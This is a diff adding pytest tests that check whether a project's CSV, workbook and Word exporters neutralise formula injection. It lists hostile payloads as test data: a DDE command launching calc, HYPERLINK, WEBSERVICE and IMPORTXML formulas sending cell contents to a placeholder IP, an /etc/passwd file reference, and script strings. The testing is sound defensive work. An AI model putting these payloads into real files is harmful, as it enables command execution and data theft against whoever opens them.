@@ -2,7 +2,9 @@
 
 import csv
 import io
+import re
 import unicodedata
+import zipfile
 from datetime import UTC, datetime
 
 import pytest
@@ -13,8 +15,11 @@ from openpyxl import load_workbook
 from sightline.domain.watermark import Mark
 from sightline.exchange.exporters import EXPORTERS
 from sightline.exchange.exporters.cell_text import plain_text, safe_text, said, sayable
+from sightline.exchange.exporters.tables import Column, Export, Table
 from sightline.exchange.exporters.watermarked import watermarked
 from sightline.exchange.importers.sandbox import read_action_plan_in_sandbox
+from sightline.reports import tree as report
+from sightline.reports.renderers.docx import render_docx
 from tests.integration.exchange.exporters.invented_export import (
     HARMLESS_TEXTS,
     HOSTILE_TEXTS,
@@ -105,3 +110,61 @@ def test_a_watermark_makes_no_cell_a_formula(text: str, extension: str) -> None:
         assert "f" not in {cell.data_type for cell in shown}
         cells = [said(cell.value) for cell in shown if cell.data_type == "s"]
     assert not [cell for cell in cells if is_formula_to_some_program(cell)]
+
+
+BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n+", "\0=", "＝", " \u200b=")
+BODIES = (
+    "1+1",
+    "SUM(A1:A9)*cmd|' /C calc'!A0",
+    'HYPERLINK("http://203.0.113.9/?"&A1,"Press")',
+    'WEBSERVICE("http://203.0.113.9/"&A1)',
+    'IMPORTXML("http://203.0.113.9/","//a")',
+    'DDE("cmd";"/C calc";"x")',
+    "'file:///etc/passwd'#$A.A1",
+    'INDIRECT("A1")',
+    "<script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+)
+PAYLOADS = tuple(f"{beginning}{body}" for beginning in BEGINNINGS for body in BODIES)
+
+
+def everywhere(payload: str) -> Export:
+    """An export with a text in each place that somebody's words can come to; heads are our own."""
+    columns = (Column("text", "Action", 20), Column("more", "Owner", 20, choices=(payload,)))
+    table = Table("t", "Plan", columns, ((payload, payload), (payload, (payload, payload))))
+    return Export("action_plan", payload, (("about", payload),), (payload,), (table,), payload)
+
+
+@pytest.mark.parametrize("beginning", BEGINNINGS, ids=map(repr, BEGINNINGS))
+def test_a_payload_is_a_formula_in_no_place_of_a_csv_file(beginning: str) -> None:
+    for payload in (each for each in PAYLOADS if each.startswith(beginning)):
+        written = EXPORTERS["csv"](everywhere(payload)).decode("utf-8-sig")
+        cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]
+        assert len(cells) > 4
+        assert [cell for cell in cells if is_formula_to_some_program(cell)] == []
+
+
+@pytest.mark.parametrize("beginning", BEGINNINGS, ids=map(repr, BEGINNINGS))
+def test_a_payload_is_a_formula_in_no_place_of_a_workbook(beginning: str) -> None:
+    for payload in (each for each in PAYLOADS if each.startswith(beginning)):
+        with zipfile.ZipFile(io.BytesIO(EXPORTERS["xlsx"](everywhere(payload)))) as archive:
+            parts = {name: archive.read(name) for name in archive.namelist()}
+        sheets = b"".join(data for name, data in parts.items() if "worksheets/sheet" in name)
+        assert b"<sheetData>" in sheets
+        assert re.findall(rb"<f[ >]|<hyperlink", sheets) == []
+        assert [name for name in parts if "externalLink" in name or "connections" in name] == []
+        assert [name for name, data in parts.items() if b'TargetMode="External"' in data] == []
+
+
+def test_a_payload_is_words_in_every_place_of_a_word_file() -> None:
+    for payload in PAYLOADS:
+        table = report.Table(payload, (report.Column(payload),), ((payload,),))
+        blocks = (report.Heading(payload), report.Paragraph(payload), report.BulletList((payload,)), table)
+        written = render_docx(report.Document(title=payload, blocks=blocks, footer=payload))
+        with zipfile.ZipFile(io.BytesIO(written)) as archive:
+            parts = {name: archive.read(name) for name in archive.namelist()}
+        whole = b"".join(data for name, data in parts.items() if name.startswith("word/"))
+        assert set(re.findall(rb"<w:instrText[^>]*>([^<]*)<", whole)) <= {b"PAGE"}
+        assert set(re.findall(rb'<w:fldSimple[^>]*instr="([^"]*)"', whole)) <= {b"PAGE"}
+        assert re.findall(rb"<w:hyperlink|<w:altChunk|<script", whole) == []
+        assert [name for name, data in parts.items() if b'TargetMode="External"' in data] == []
